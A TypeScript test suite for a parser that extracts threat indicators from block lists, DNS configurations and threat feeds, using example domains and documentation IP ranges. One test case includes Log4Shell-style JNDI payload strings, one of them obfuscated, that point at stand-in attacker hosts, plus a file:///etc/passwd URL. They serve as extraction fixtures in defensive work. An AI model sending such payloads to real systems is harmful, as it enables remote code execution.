import { deepEqual, equal, throws } from "../../assert.ts";
import { type IndicatorList, readList } from "../../../lib/typetags/ioc_list/read_list.ts";

function read(text: string): IndicatorList {
  const list = readList({ data: text });
  if (list === undefined) throw new Error("The list was not read");
  return list;
}

/** The indicators in a list, each once and sorted: `"ipv4 192.0.2.1"`. */
function indicators(text: string): readonly string[] {
  const found = read(text).indicators.map(({ subType, data }) => `${subType} ${data}`);
  return [...new Set(found)].sort();
}

const FEED = '# "first_seen_utc","ioc_id","ioc_value","ioc_type","reference","tags","reporter"\n';
const FEED_ROWS =
  '"2026-01-01", "1", "192.0.2.10:443", "ip:port", "https://blog.example.org/a", "x,y", "al"\n' +
  '"2026-01-01", "2", "c2.example", "domain", "https://blog.example.org/b", "x", "bob"\n';
const HASHES = { md5: "b2".repeat(16), sha1: "c3".repeat(20), sha256: "a1".repeat(32) };

for (
  const [name, text, expected] of [
    [
      "a hosts file, whatever the sink",
      "127.0.0.1 localhost localhost.localdomain\n255.255.255.255 broadcasthost\n::1 ip6-loopback\n" +
      "fe80::1%lo0 localhost\nff00::0 ip6-localnet\nff02::1 ip6-allnodes\n0.0.0.0 0.0.0.0\n" +
      "0.0.0.0 ads.example # why\n198.51.100.1\ttrack.example www.track.example\n0 short.example#x\n" +
      ":: six.example\n127.0.0.1 kubernetes.docker.internal",
      [
        "domain ads.example",
        "domain short.example",
        "domain six.example",
        "domain track.example",
        "domain www.track.example",
      ],
    ],
    [
      "AdBlock rules",
      "[Adblock Plus 2.0]\n! Homepage: https://lists.example.org/\n! Contact: me@example.org\n" +
      "||ads.example^\n||track.example^$third-party\n@@||shop.example^\n@@||cdn.example^$domain=a.example\n" +
      "||pixel.example^$domain=press.example|blog.example\nexample.com##.banner\nexample.com#@#.x\n" +
      "a.example,~b.example#?#div:has(a)\n##.ad\n||file.example/a.js^$script\n||*.wild.example^\n" +
      "/banner/ads.$domain=news.example\n||off.example^$badfilter\n||198.51.100.9^\n||bit.bazar^\n",
      [
        "domain ads.example",
        "domain bit.bazar",
        "domain pixel.example",
        "domain track.example",
        "domain wild.example",
        "ipv4 198.51.100.9",
        "url file.example/a.js",
      ],
    ],
    ["uBlacklist patterns", "*://*.evil.example/*\n@*://good.example/*\n*://bad.example/*", [
      "domain bad.example",
      "domain evil.example",
    ]],
    [
      "dnsmasq",
      "# list\naddress=/a.example/0.0.0.0\naddress=/b.example/c.example/::\nserver=/d.example/\n" +
      "local=/e.bazar/\naddress=/f.example/#\nserver=/corp.example/192.0.2.53\nserver=192.0.2.54\n" +
      "listen-address=192.0.2.55\n",
      [
        "domain a.example",
        "domain b.example",
        "domain c.example",
        "domain d.example",
        "domain e.bazar",
        "domain f.example",
      ],
    ],
    [
      "Unbound",
      'server:\n  local-zone: "a.example" always_nxdomain\n  local-zone: b.example. redirect\n' +
      '  local-data: "b.example A 192.0.2.99"\nlocal-data: "c.example 3600 IN AAAA ::"\n' +
      'local-zone: "good.example" transparent\nforward-addr: 192.0.2.53@853#dns.example.org\n',
      ["domain a.example", "domain b.example", "domain c.example"],
    ],
    [
      "BIND",
      'options {\n  forwarders { 192.0.2.53; };\n};\nzone "a.example" { type master; file "/etc/x.db"; };\n' +
      'zone b.example IN {\n  type primary;\n  file "blocked.example.org";\n};\n' +
      'zone "corp.example" { type forward; forwarders { 192.0.2.53; }; };\n' +
      'zone "2.0.192.in-addr.arpa" { type master; };\n',
      ["domain a.example", "domain b.example"],
    ],
    [
      "a response policy zone",
      "$TTL 300\n@ IN SOA localhost. root.lists.example.org. (\n  1 ; serial\n  3600 600 86400 300 )\n" +
      "@ IN NS ns.lists.example.org.\n  NS localhost.\n; comment\nbad.example CNAME .\n*.bad.example CNAME .\n" +
      "walled.example 300 IN CNAME garden.example.org.\ndrop.bazar CNAME rpz-drop.\nsink.example A 192.0.2.99\n" +
      "32.1.2.0.192.rpz-ip CNAME .\n24.0.100.51.198.rpz-ip CNAME .\n48.zz.db8.2001.rpz-ip CNAME .\n" +
      "128.1.zz.db8.2001.rpz-nsip CNAME .\nns.evil.example.rpz-nsdname CNAME .\n" +
      "good.example CNAME rpz-passthru.\nold.example CNAME old.example.\n32.7.2.0.192.rpz-client-ip CNAME .\n",
      [
        "domain bad.example",
        "domain drop.bazar",
        "domain ns.evil.example",
        "domain sink.example",
        "domain walled.example",
        "ipv4 192.0.2.1",
        "ipv4_net 198.51.100.0/24",
        "ipv6 2001:db8::1",
        "ipv6_net 2001:db8::/48",
      ],
    ],
    [
      "a response policy zone with absolute names",
      "$ORIGIN rpz.example.org.\nrpz.example.org. SOA ns.example.org. me.example.org. 1 2 3 4 5\n" +
      "bad.example.rpz.example.org. CNAME .\n32.1.2.0.192.rpz-ip.rpz.example.org. CNAME .\n",
      ["domain bad.example", "ipv4 192.0.2.1"],
    ],
    [
      "JSON lines",
      '{"cidr":"192.0.2.0/24","rir":"apnic"}\n{"cidr":"198.51.100.0/25"}\n' +
      '{"type":"metadata","terms":"https://lists.example.org/terms/","copyright":"(c)"}\n',
      ["ipv4_net 192.0.2.0/24", "ipv4_net 198.51.100.0/25"],
    ],
    [
      "a feed with one bad quote",
      `${FEED}${FEED_ROWS}"2026", "3", "http://bad.example/a", "url", ` +
      '"https://blog.example.org/c", "said "hi" there", "eve"\n',
      ["domain c2.example", "ipv4 192.0.2.10"],
    ],
    [
      "a feed with one comma more",
      `${FEED}${FEED_ROWS}2026,3,http://bad.example/a,url,` +
      "https://blog.example.org/c,x,y,eve\n",
      ["domain c2.example", "ipv4 192.0.2.10"],
    ],
    [
      "a quoted cell of two lines",
      'ip,comment\n192.0.2.1,"two\nlines, see a.example"\n192.0.2.2,x\n',
      [
        "ipv4 192.0.2.1",
        "ipv4 192.0.2.2",
      ],
    ],
    [
      "hashes by the names of their columns",
      "sha256_hash;MD5 hash;sha1-hash;imphash;ja3_md5;gimphash;telfhash;authentihash\n" +
      `${HASHES.sha256};${HASHES.md5};${HASHES.sha1};${"d4".repeat(16)};${"e5".repeat(16)};` +
      `${"f6".repeat(32)};n/a;${"07".repeat(32)}\n`,
      [
        `authentihash ${"07".repeat(32)}`,
        `imphash ${"d4".repeat(16)}`,
        `md5 ${HASHES.md5}`,
        `sha1 ${HASHES.sha1}`,
        `sha256 ${HASHES.sha256}`,
      ],
    ],
    [
      "hashes by their type or label",
      `type,value\nimphash,${"d4".repeat(16)}\nja3-fingerprint-md5,${
        "e5".repeat(16)
      }\nmd5,${HASHES.md5}\n`,
      [`imphash ${"d4".repeat(16)}`, `md5 ${HASHES.md5}`],
    ],
    [
      "labels of hashes",
      `JA3: ${"e5".repeat(16)}\nimphash=${"d4".repeat(16)}\nMD5: ${HASHES.md5}`,
      [
        `imphash ${"d4".repeat(16)}`,
        `md5 ${HASHES.md5}`,
      ],
    ],
    [
      "URLs with commas",
      "http://bad.example/a,1/x\nhttp://bad.example/b,2/x\nhttp://c.example/c,3",
      [
        "url http://bad.example/a,1/x",
        "url http://bad.example/b,2/x",
        "url http://c.example/c,3",
      ],
    ],
    ["URLs with semicolons", "http://bad.example/a;s=1\nhttp://bad.example/b;s=2", [
      "url http://bad.example/a;s=1",
      "url http://bad.example/b;s=2",
    ]],
    ["URLs before dates", "http://bad.example/a,2026-01-01,x\nhttp://bad.example/b,2026-01-01,y", [
      "url http://bad.example/a",
      "url http://bad.example/b",
    ]],
    [
      "any scheme with a host",
      "ldap://192.0.2.11:1389/a\nsocks5://192.0.2.14:1080\nmongodb://u:p@db.bad.example/x\n" +
      "GET ${jndi:ldap://198.51.100.2:1389/b} HTTP\n${${lower:j}ndi:${::-r}mi://evil.example/c}\n" +
      "chrome://extensions\nfile:///etc/passwd\n",
      [
        "url ldap://192.0.2.11:1389/a",
        "url ldap://198.51.100.2:1389/b",
        "url mongodb://u:p@db.bad.example/x",
        "url rmi://evil.example/c",
        "url socks5://192.0.2.14:1080",
      ],
    ],
    [
      "a table with targets",
      "phish_id,url,phish_detail_url,target\n1,https://login.bad.example/a,http://l.example.org/1,Shop.example.com\n" +
      "2,http://bad.example/b,http://l.example.org/2,Bank.example.com\n",
      ["url http://bad.example/b", "url https://login.bad.example/a"],
    ],
    [
      "the first column of nothing but indicators",
      "2026-01-01,evil.example,198.51.100.1,shop.example.com\n2026-01-02,bad.example,198.51.100.2,bank.example.com\n",
      ["domain bad.example", "domain evil.example"],
    ],
    [
      "columns with unknown names",
      "when,brand,site\n2026,shop.example.com,evil.example\n2026,bank.example.com,bad.example\n",
      ["domain bad.example", "domain evil.example"],
    ],
    [
      "a block list of networks",
      "Start\tEnd\tNetblock\tAttacks\tName\tCountry\temail\n" +
      "192.0.2.0\t192.0.2.255\t24\t7\tNet\tZZ\tabuse@isp.example.net\n" +
      "198.51.100.0\t198.51.100.127\t25\t5\tOther\tZZ\tnoc@isp.example.org\n",
      ["ipv4_net 192.0.2.0/24", "ipv4_net 198.51.100.0/25"],
    ],
    ["a block list without names", "192.0.2.0,192.0.2.255,24\n198.51.100.0,198.51.100.255,24\n", [
      "ipv4_net 192.0.2.0/24",
      "ipv4_net 198.51.100.0/24",
    ]],
    [
      "ranges",
      "192.0.2.0-192.0.2.255\n198.51.100.4 - 198.51.100.7\n203.0.113.1-203.0.113.2\n203.0.113.8-15\n" +
      "2001:db8::-2001:db8::ff\nSome net:198.051.100.016-198.051.100.031\n",
      [
        "ipv4 203.0.113.1",
        "ipv4 203.0.113.2",
        "ipv4_net 192.0.2.0/24",
        "ipv4_net 198.51.100.16/28",
        "ipv4_net 198.51.100.4/30",
        "ipv4_net 203.0.113.8/29",
        "ipv6_net 2001:db8::/120",
      ],
    ],
    ["networks with masks", "192.0.2.0 255.255.255.0\n198.51.100.0/255.255.255.128\n", [
      "ipv4_net 192.0.2.0/24",
      "ipv4_net 198.51.100.0/25",
    ]],
    [
      "a table with bars",
      "# Format: report|ip|asn|timestamp|comments\nbot|192.0.2.21|64496|2026|family: x;\n" +
      "phishing|192.0.2.22|64496|2026|http://bad.example/login\n",
      ["ipv4 192.0.2.21", "ipv4 192.0.2.22"],
    ],
    [
      "URLs without a scheme",
      "a.example/\nb.example/123\nc.example/2026/\n192.0.2.41/\nd.example:8080/\ne.example?id=1\n192.0.2.1/33",
      [
        "url 192.0.2.41/",
        "url a.example/",
        "url b.example/123",
        "url c.example/2026/",
        "url d.example:8080/",
        "url e.example?id=1",
      ],
    ],
    ["networks with host bits", "192.0.2.4/24\n192.0.2.0/024\n2001:db8::5/32\n", [
      "ipv4_net 192.0.2.0/24",
      "ipv6_net 2001:db8::/32",
    ]],
    [
      "one name in many spellings",
      "bücher.example\nBÜCHER.example.\nbu\u0308cher。example\nxn--bcher-kva.example",
      [
        "domain xn--bcher-kva.example",
      ],
    ],
    [
      "names under any ending",
      "c2.bazar\nc2.bit\nx.i2p\n*.y.libre\nz.coin:443\nhttp://h.bazar/x\nb.zip\nc.md",
      [
        "domain b.zip",
        "domain c.md",
        "domain c2.bazar",
        "domain c2.bit",
        "domain x.i2p",
        "domain y.libre",
        "domain z.coin",
        "url http://h.bazar/x",
      ],
    ],
    ["names beside files", "c2.example\nsetup.exe\nreadme.md\nx.bazar", ["domain c2.example"]],
    [
      "documentation among bare indicators",
      "Demo list, see https://docs.example.org/list or write to me@example.org\n192.0.2.1\nevil.example\nMD5: " +
      HASHES.md5 + "\n" +
      "http://bad.example/a seen by alice, https://blog.example.org/x\nuses c2[.]example as its server\n",
      [
        "domain c2.example",
        "domain evil.example",
        "ipv4 192.0.2.1",
        `md5 ${HASHES.md5}`,
        "url http://bad.example/a",
      ],
    ],
    [
      "a report in sentences",
      "The host evil.example resolves to 192.0.2.1.\nIt loads http://bad.example/a too.",
      [
        "domain evil.example",
        "ipv4 192.0.2.1",
        "url http://bad.example/a",
      ],
    ],
    [
      "one end of traffic at most",
      "src_ip,dst_ip,url\n192.0.2.1,198.51.100.1,http://bad.example/\n",
      [
        "url http://bad.example/",
      ],
    ],
    ["references", "192.0.2.1\nReference: https://blog.example.org/x\nContact: me@example.org", [
      "ipv4 192.0.2.1",
    ]],
  ] as const
) {
  Deno.test(`readList reads ${name}`, () => deepEqual(indicators(text), [...expected].sort()));
}

Deno.test("readList counts rows that do not fit their table as rejected", () => {
  const { rejected } = read(`${FEED}${FEED_ROWS}a,b\n`);
  deepEqual(rejected.map(({ record }) => record), [3]);
});

Deno.test("readList counts exceptions, parts of pages and comments of AdBlock lists", () => {
  const { skipped } = read(
    "! x\n||a.example^\n@@||b.example^\nexample.com##.x\n/generic/$script\n",
  );
  deepEqual(Object.fromEntries(skipped), {
    comment: 1,
    exception: 1,
    "rule for parts of pages": 1,
    "rule that names no host": 1,
  });
});

Deno.test("readList counts half lines of JSON lines as rejected", () => {
  const { rejected } = read('{"ip":"192.0.2.1"}\n{"ip":"192.0.2.2"}\n{"ip": "192.0\n');
  deepEqual(rejected, [{ record: 3, reason: "The line is not a JSON object" }]);
});

for (
  const page of [
    "<!DOCTYPE html><p>192.0.2.77",
    '\n <html lang="en"><a href="https://docs.example.org/">',
    '<?xml version="1.0"?><rss>',
    "<rss version='2.0'>",
    "<feed xmlns='http://www.w3.org/2005/Atom'>",
    "<!-- moved --><!doctype html>",
  ]
) {
  Deno.test(`readList refuses ${JSON.stringify(page.slice(0, 20))}`, () => {
    throws(() => readList({ data: page }), { code: "EVENTS_INVALID", message: /not a list/ });
  });
}

Deno.test("readList keeps a list whose words are in angle brackets", () => {
  equal(read("<https://bad.example/>\n<feeds.example>").indicators.length, 2);
});
